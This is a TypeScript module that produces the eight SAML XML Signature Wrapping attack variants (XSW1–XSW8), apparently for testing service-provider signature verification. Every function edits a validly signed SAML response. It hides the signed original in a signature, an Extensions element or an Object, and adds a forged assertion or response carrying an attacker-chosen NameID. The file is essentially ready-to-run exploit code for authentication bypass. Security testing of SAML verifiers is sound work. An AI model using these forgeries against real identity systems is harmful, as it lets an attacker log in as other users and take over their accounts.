import { assertionOf, children, edit, NS, ownSignature, setNameId } from "./xml.js";

/**
 * SAML Raider's eight signature-wrapping placements (XSW1–XSW8), rebuilt with the DOM on a validly
 * signed response. Each keeps the original signed element somewhere a careless verifier would
 * still find it, and puts an "evil" copy where a careless application would read the identity;
 * the evil copy's NameID becomes `evilNameId`.
 *
 * XSW1 and XSW2 target the Response signature. When only the assertion is signed (Entra's default)
 * there is no Response signature, so they wrap around the assertion's signature instead: the
 * placement is the same, only the signature used as a hiding place differs.
 */
export type XswVariant = 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8;
export const XSW_VARIANTS: readonly XswVariant[] = [1, 2, 3, 4, 5, 6, 7, 8];

export const XSW_DESCRIPTIONS: Record<XswVariant, string> = {
  1: "evil Response outside, original Response inside its Signature",
  2: "evil Response outside, original Response as a sibling before its Signature",
  3: "evil Assertion (new ID, unsigned) before the original Assertion",
  4: "evil Assertion (new ID) wrapping the original Assertion, appended to the Response",
  5: "signed Assertion edited in place (ID changed), unsigned original copy appended",
  6: "signed Assertion edited in place (ID changed), unsigned original copy inside its Signature",
  7: "evil Assertion (same ID, unsigned) inside an Extensions element before the original",
  8: "signed Assertion edited in place, unsigned original copy in a Signature/Object",
};

export function applyXsw(signedXml: string, variant: XswVariant, evilNameId: string): string {
  return edit(signedXml, (doc) => XSW[variant](doc, evilNameId));
}

const XSW: Record<XswVariant, (doc: Document, evil: string) => void> = {
  1(doc, evil) {
    const response = doc.documentElement;
    const { signature, cloneWithoutIt } = cloneAroundFirstSignature(response);
    signature.appendChild(cloneWithoutIt);
    response.setAttribute("ID", "_evil_response_ID");
    setNameId(assertionOf(doc), evil);
  },
  2(doc, evil) {
    const response = doc.documentElement;
    const { signature, cloneWithoutIt } = cloneAroundFirstSignature(response);
    signature.parentNode?.insertBefore(cloneWithoutIt, signature);
    response.setAttribute("ID", "_evil_response_ID");
    setNameId(assertionOf(doc), evil);
  },
  3(doc, evil) {
    const assertion = assertionOf(doc);
    const evilAssertion = unsignedClone(assertion);
    evilAssertion.setAttribute("ID", "_evil_assertion_ID");
    setNameId(evilAssertion, evil);
    doc.documentElement.insertBefore(evilAssertion, assertion);
  },
  4(doc, evil) {
    const assertion = assertionOf(doc);
    const evilAssertion = unsignedClone(assertion);
    evilAssertion.setAttribute("ID", "_evil_assertion_ID");
    setNameId(evilAssertion, evil);
    doc.documentElement.appendChild(evilAssertion);
    evilAssertion.appendChild(assertion);
  },
  5(doc, evil) {
    const evilAssertion = assertionOf(doc);
    const original = unsignedClone(evilAssertion);
    doc.documentElement.appendChild(original);
    evilAssertion.setAttribute("ID", "_evil_assertion_ID");
    setNameId(evilAssertion, evil);
  },
  6(doc, evil) {
    const evilAssertion = assertionOf(doc);
    const signature = requireSignature(evilAssertion);
    const original = unsignedClone(evilAssertion);
    signature.appendChild(original);
    evilAssertion.setAttribute("ID", "_evil_assertion_ID");
    setNameId(evilAssertion, evil);
  },
  7(doc, evil) {
    const assertion = assertionOf(doc);
    const extensions = doc.createElementNS(NS.protocol, "samlp:Extensions");
    doc.documentElement.insertBefore(extensions, assertion);
    const evilAssertion = unsignedClone(assertion);
    setNameId(evilAssertion, evil);
    extensions.appendChild(evilAssertion);
  },
  8(doc, evil) {
    const evilAssertion = assertionOf(doc);
    const signature = requireSignature(evilAssertion);
    const original = unsignedClone(evilAssertion);
    const object = doc.createElementNS(NS.dsig, "Object");
    signature.appendChild(object);
    object.appendChild(original);
    setNameId(evilAssertion, evil);
  },
};

/** The Response's own Signature, else the assertion's; and a deep copy of the Response without it. */
function cloneAroundFirstSignature(response: Element) {
  const signature = ownSignature(response) ?? requireSignature(assertionOf(response.ownerDocument));
  const inResponse = signature.parentNode === response;
  const clone = response.cloneNode(true) as Element;
  const cloneSignature = inResponse
    ? ownSignature(clone)
    : ownSignature(children(clone, "Assertion", NS.assertion)[0] as Element);
  cloneSignature?.parentNode?.removeChild(cloneSignature);
  return { signature, cloneWithoutIt: clone };
}

function unsignedClone(el: Element): Element {
  const clone = el.cloneNode(true) as Element;
  const signature = ownSignature(clone);
  if (signature) clone.removeChild(signature);
  return clone;
}

function requireSignature(el: Element): Element {
  const signature = ownSignature(el);
  if (!signature) throw new Error(`${el.localName} has no Signature to wrap`);
  return signature;
}
